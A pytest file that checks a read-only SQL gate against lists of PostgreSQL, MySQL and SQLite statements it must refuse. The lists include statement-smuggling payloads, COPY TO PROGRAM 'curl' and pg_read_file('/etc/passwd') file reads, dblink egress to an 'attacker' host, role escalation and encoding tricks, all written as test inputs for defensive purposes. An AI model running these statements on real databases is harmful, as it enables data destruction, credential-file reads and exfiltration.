from __future__ import annotations

import pytest

from activities.errors import ReadOnlyViolationError
from activities.sql import MAX_SQL_CHARS, check_read_only

# (category, statement) pairs from TESTPLAN S3; every one must be refused by layer 1
REFUSED_PG = [
    ("multi", "SELECT 1; DELETE FROM t"),
    ("multi", "SELECT 1;COMMIT;DELETE FROM t"),
    ("multi", "SELECT ';' AS s; DELETE FROM t"),
    ("multi", "SELECT 1; SELECT 2"),
    ("multi", "SELECT $$;$$; DROP TABLE t"),
    ("multi", "SELECT 1 /* ; */ ; UPDATE t SET a = 1"),
    ("multi", "SELECT 1 -- comment\n; TRUNCATE t"),
    ("multi", "SELECT E'\\';' ; DELETE FROM t"),
    ("multi", "SELECT 1; COPY t TO STDOUT"),
    ("multi", "VALUES (1); INSERT INTO t VALUES (1)"),
    ("tx", "SET TRANSACTION READ WRITE"),
    ("tx", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE"),
    ("tx", "SET default_transaction_read_only = off"),
    ("tx", "RESET ALL"),
    ("tx", "SELECT set_config('default_transaction_read_only', 'off', false)"),
    ("tx", "COMMIT; BEGIN READ WRITE"),
    ("tx", "COMMIT"),
    ("tx", "BEGIN"),
    ("tx", "ROLLBACK"),
    ("tx", "START TRANSACTION READ WRITE"),
    ("identity", "SET ROLE postgres"),
    ("identity", "SET SESSION AUTHORIZATION postgres"),
    ("identity", "RESET ROLE"),
    ("cte", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d"),
    ("cte", "WITH i AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT * FROM i"),
    ("cte", "WITH u AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM u"),
    ("cte", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE"),
    ("cte", "WITH x AS (SELECT 1) DELETE FROM t"),
    ("lock", "SELECT * FROM t FOR UPDATE"),
    ("lock", "SELECT * FROM t FOR NO KEY UPDATE"),
    ("lock", "SELECT * FROM t FOR SHARE"),
    ("lock", "SELECT * FROM t FOR KEY SHARE"),
    ("lock", "LOCK TABLE t"),
    ("lock", "SELECT * FROM (SELECT * FROM t FOR UPDATE) s"),
    ("func", "SELECT nextval('s')"),
    ("func", "SELECT setval('s', 1)"),
    ("func", "SELECT pg_advisory_lock(1)"),
    ("func", "SELECT pg_try_advisory_xact_lock(1)"),
    ("func", "SELECT pg_sleep(1e6)"),
    ("func", "SELECT pg_catalog.pg_sleep(1)"),
    ("func", "SELECT pg_terminate_backend(1)"),
    ("func", "SELECT pg_cancel_backend(1)"),
    ("func", "SELECT pg_reload_conf()"),
    ("func", "SELECT txid_current()"),
    ("func", "SELECT pg_notify('c', 'x')"),
    ("func", 'SELECT "pg_sleep"(1)'),
    ("func", "SELECT * FROM t WHERE a = (SELECT NEXTVAL('s'))"),
    ("func", "CALL proc()"),
    ("func", "DO $$ BEGIN DELETE FROM t; END $$"),
    ("file", "COPY t TO PROGRAM 'curl http://x'"),
    ("file", "COPY t FROM PROGRAM 'id'"),
    ("file", "COPY t TO '/tmp/x'"),
    ("file", "SELECT pg_read_file('/etc/passwd')"),
    ("file", "SELECT pg_read_binary_file('/etc/passwd')"),
    ("file", "SELECT pg_ls_dir('.')"),
    ("file", "SELECT lo_import('/etc/passwd')"),
    ("file", "SELECT lo_export(1, '/tmp/x')"),
    ("file", "SELECT lo_from_bytea(0, 'x')"),
    ("egress", "SELECT dblink_exec('host=attacker', 'DELETE FROM t')"),
    ("egress", "SELECT * FROM dblink('host=attacker', 'SELECT 1') AS t(a int)"),
    ("egress", "SELECT dblink_connect('host=attacker')"),
    ("egress", "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw"),
    ("ddl", "CREATE TEMP TABLE x (a int)"),
    ("ddl", "SELECT * INTO x FROM t"),
    ("ddl", "CREATE TABLE x AS SELECT * FROM t"),
    ("ddl", "REFRESH MATERIALIZED VIEW m"),
    ("ddl", "VACUUM"),
    ("ddl", "ANALYZE t"),
    ("ddl", "CHECKPOINT"),
    ("ddl", "PREPARE p AS DELETE FROM t"),
    ("ddl", "EXECUTE p"),
    ("ddl", "EXPLAIN ANALYZE DELETE FROM t"),
    ("ddl", "LISTEN c"),
    ("ddl", "NOTIFY c"),
    ("ddl", "DROP TABLE t"),
    ("ddl", "TRUNCATE t"),
    ("ddl", "ALTER TABLE t ADD COLUMN b int"),
    ("dml", "INSERT INTO t VALUES (1)"),
    ("dml", "UPDATE t SET a = 1"),
    ("dml", "DELETE FROM t"),
    ("lex", "SELECT 1\x00; DELETE FROM t"),
    ("lex", "SELECT 1\u200b; DELETE FROM t"),
    ("lex", "SELECT\u00a01"),
    ("lex", "SELECT 1\u2028DELETE FROM t"),
    ("lex", "SELECT 1\x0c; DELETE FROM t"),
    ("lex", "DeLeTe FrOm t"),
    ("lex", "/* SELECT */ DELETE FROM t"),
    ("lex", "-- SELECT\nDELETE FROM t"),
    ("lex", "SELECT U&'\\0070g_sleep'"),
    ("lex", 'SELECT U&"d\\0065lete"(1)'),
    ("lex", "SELECT 1 " + "x" * MAX_SQL_CHARS),
    ("lex", "SELECT '\ud800'"),
    ("lex", ""),
    ("lex", "   ;  "),
]
REFUSED_MYSQL = [
    ("multi", "SELECT 1; DELETE FROM t"),
    ("tx", "SET SESSION TRANSACTION READ WRITE"),
    ("tx", "SET autocommit = 1"),
    ("lock", "SELECT * FROM t LOCK IN SHARE MODE"),
    ("lock", "SELECT * FROM t FOR UPDATE"),
    ("lock", "LOCK TABLES t WRITE"),
    ("func", "SELECT SLEEP(100)"),
    ("func", "SELECT BENCHMARK(100000000, MD5('x'))"),
    ("func", "SELECT GET_LOCK('l', 10)"),
    ("func", "SELECT LOAD_FILE('/etc/passwd')"),
    ("file", "SELECT * FROM t INTO OUTFILE '/tmp/x'"),
    ("file", "LOAD DATA INFILE '/tmp/x' INTO TABLE t"),
    ("dml", "REPLACE INTO t VALUES (1)"),
    ("dml", "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 2"),
    ("ddl", "HANDLER t OPEN"),
]
REFUSED_SQLITE = [
    ("multi", "SELECT 1; DELETE FROM t"),
    ("ddl", "PRAGMA query_only = OFF"),
    ("ddl", "ATTACH DATABASE '/tmp/x.db' AS x"),
    ("ddl", "VACUUM INTO '/tmp/x.db'"),
    ("func", "SELECT load_extension('/tmp/evil.so')"),
    ("dml", "INSERT OR REPLACE INTO t VALUES (1)"),
]
ALLOWED = [
    ("postgresql", "SELECT 1"),
    ("postgresql", "SELECT a, b FROM t WHERE c = 'DELETE FROM t; DROP TABLE t'"),
    ("postgresql", "WITH x AS (SELECT a FROM t) SELECT * FROM x JOIN u ON u.a = x.a"),
    ("postgresql", "SELECT a FROM t UNION ALL SELECT a FROM u"),
    ("postgresql", "VALUES (1, 'a'), (2, 'b')"),
    ("postgresql", "SELECT count(*), max(updated_at) FROM t GROUP BY day HAVING count(*) > 1"),
    ("postgresql", "SELECT 1; "),
    ("postgresql", "SELECT 1 /* nested /* */ ; DELETE FROM t */"),  # one nested comment in PostgreSQL
    ("postgresql", "SELECT now(), coalesce(a, 0)::numeric(12,2) FROM t -- trailing comment"),
    ("mysql", "SELECT `a` FROM `t` LIMIT 10"),
    ("mysql", "SELECT CONCAT(a, 'x') FROM t WHERE b IN (1, 2)"),
    ("sqlite", "SELECT a FROM t ORDER BY a DESC LIMIT 5 OFFSET 2"),
    ("sqlite", "SELECT json_extract(doc, '$.a') FROM t"),
]


def _ids(cases: list[tuple[str, str]]) -> list[str]:
    return [f"{cat}-{i}" for i, (cat, _) in enumerate(cases)]


@pytest.mark.parametrize(("category", "sql"), REFUSED_PG, ids=_ids(REFUSED_PG))
def test_postgres_corpus_is_refused(category: str, sql: str) -> None:
    with pytest.raises(ReadOnlyViolationError, match="read-only gate") as info:
        check_read_only(sql, dialect="postgresql")
    assert info.value.fields["reason"]


@pytest.mark.parametrize(("category", "sql"), REFUSED_MYSQL, ids=_ids(REFUSED_MYSQL))
def test_mysql_corpus_is_refused(category: str, sql: str) -> None:
    with pytest.raises(ReadOnlyViolationError):
        check_read_only(sql, dialect="mysql")


@pytest.mark.parametrize(("category", "sql"), REFUSED_SQLITE, ids=_ids(REFUSED_SQLITE))
def test_sqlite_corpus_is_refused(category: str, sql: str) -> None:
    with pytest.raises(ReadOnlyViolationError):
        check_read_only(sql, dialect="sqlite")


@pytest.mark.parametrize(("dialect", "sql"), ALLOWED)
def test_pure_reads_are_allowed(dialect: str, sql: str) -> None:
    check_read_only(sql, dialect=dialect)


def test_corpus_covers_every_category_with_enough_statements() -> None:
    total = len(REFUSED_PG) + len(REFUSED_MYSQL) + len(REFUSED_SQLITE)
    assert total >= 100
    categories = {cat for cat, _ in REFUSED_PG}
    assert {"multi", "tx", "identity", "cte", "lock", "func", "file", "egress", "ddl", "lex"} <= categories


def test_reason_names_the_offending_function() -> None:
    with pytest.raises(ReadOnlyViolationError, match=r"pg_sleep\(\)"):
        check_read_only("SELECT a FROM t WHERE pg_sleep(10) IS NULL", dialect="postgresql")


def test_unknown_dialect_is_refused() -> None:
    with pytest.raises(ReadOnlyViolationError, match="dialect"):
        check_read_only("SELECT 1", dialect="oracle")
